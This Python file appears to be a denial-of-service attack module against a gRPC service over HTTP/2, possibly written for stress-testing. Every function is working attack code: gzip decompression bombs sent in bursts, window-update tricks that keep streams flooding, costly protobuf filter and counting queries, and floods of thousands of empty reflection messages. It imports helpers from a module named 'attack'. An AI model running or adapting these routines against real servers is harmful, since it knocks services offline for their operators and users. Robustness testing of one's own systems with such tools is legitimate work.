"""Requests that take long to take, to compute or to send."""

import struct
import time
import zlib

from attack import again, forever
from http2 import frame, message
from wire import (
    COUNT, DATA, END_STREAM, INITIAL_WINDOW_SIZE, MEETINGS, REFLECTION, STREAM, WINDOW_UPDATE, Wire,
)  # fmt: skip


def squeezed(bytes_):
    """A message that is sent compressed."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    return message(squeeze.compress(bytes_) + squeeze.flush(), compressed=1)


def field(number, content):
    """A field of bytes (protobuf's encoding)."""
    length = len(content)
    varint = b""
    while length > 127:
        varint += bytes([length & 127 | 128])
        length >>= 7
    return bytes([number << 3 | 2]) + varint + bytes([length]) + content


GZIP = {"grpc-encoding": "gzip"}


def gzip_bomb(server, ca, said, until):
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = message(squeeze.compress(bytes(4 << 20)) + squeeze.flush(), compressed=1)

    def burst(wire):
        return b"".join(wire.call(COUNT, bomb, **{"grpc-encoding": "gzip"}) for _ in range(10))

    again(server, ca, said, until, forever(burst), (INITIAL_WINDOW_SIZE, 2**20))


def gzip_bombs(server, ca, said, until):
    """The same on connections that are new for each ten, whose own budget is always whole."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = message(squeeze.compress(bytes(1 << 19)) + squeeze.flush(), compressed=1)

    def bursts(wire):
        for _ in range(5):
            yield b"".join(wire.call(COUNT, bomb, **{"grpc-encoding": "gzip"}) for _ in range(10))

    again(server, ca, said, until, bursts, (INITIAL_WINDOW_SIZE, 2**20))


def full_streams(server, ca, said, until):
    """All statements again and again, taken as fast as they come by windows that are never full."""
    wires = []
    for _ in range(2):
        wire = Wire(server, ca, said, (INITIAL_WINDOW_SIZE, 2**31 - 1))
        wire.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 65536)))
        wires.append(wire)
    while time.monotonic() < until:
        for wire in wires:
            wire.send(b"".join(wire.call(STREAM) for _ in range(4)))
            said["streams"] += 4
            wire.read_once(0.01)
    for wire in wires:
        wire.leave()


def calls(path, body, count, **more):
    """So many at a time, as fast as they are taken."""

    def work(server, ca, said, until):
        def bursts(wire):
            while True:
                before = sum(said.values())
                yield b"".join(wire.call(path, body, **more) for _ in range(count))
                wire.read_once(0.05)
                said["calls"] += count if sum(said.values()) == before else 0

        again(server, ca, said, until, bursts, (INITIAL_WINDOW_SIZE, 2**20))

    return work


# A thousand places of many words each, all the same.
costly_filter = calls(COUNT, squeezed(field(1, field(6, b"en " * 166) * 1000)), 40, **GZIP)
many_values = calls(COUNT, squeezed(field(1, field(1, b"a") * 300_000)), 10, **GZIP)
# By meeting, and then by month: a pass over everything.
heavy_counts = calls(COUNT, message(b"\x10\x04\x1a\x01\x03"), 32)
# Calls that are answered at once, as many as there are streams.
quick_calls = calls(MEETINGS, message(b""), 200)


def tiny_messages(server, ca, said, until):
    """Streams of reflection that are sent as many messages without content as their windows take."""

    def bursts(wire):
        while True:
            burst = b""
            for _ in range(8):
                burst += wire.headers(REFLECTION)
                pieces = [frame(DATA, 0, wire.stream, message(b"") * 3000) for _ in range(4)]
                burst += b"".join(pieces) + frame(DATA, END_STREAM, wire.stream, b"")
            yield burst
            said["messages"] += 8 * 4 * 3000
            wire.read_once(0.05)

    again(server, ca, said, until, bursts, (INITIAL_WINDOW_SIZE, 2**30))
